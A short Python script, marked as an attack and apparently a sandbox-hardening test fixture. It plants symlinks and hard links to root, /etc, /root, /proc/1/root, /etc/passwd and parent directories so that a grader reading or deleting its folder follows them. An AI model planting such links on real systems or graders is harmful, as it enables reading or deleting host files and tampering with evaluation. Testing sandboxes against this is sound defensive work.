# attack: leaves links to what the grader may delete or read later in its folder
import os

for number, target in enumerate(
    ("/", "/etc", "/root", "/home", "/proc/1/root", "..", "../..", "/tmp", "CANARY_NEIGHBOUR")
):
    os.symlink(target, "link%d" % number)
for target in ("/etc/passwd", "/usr/bin/env", "CANARY_NEIGHBOUR"):
    try:
        os.link(target, "hard")
        print("REACHED", target)
    except OSError:
        pass
os.makedirs("folder/deeper")
os.symlink("../../..", "folder/deeper/up")
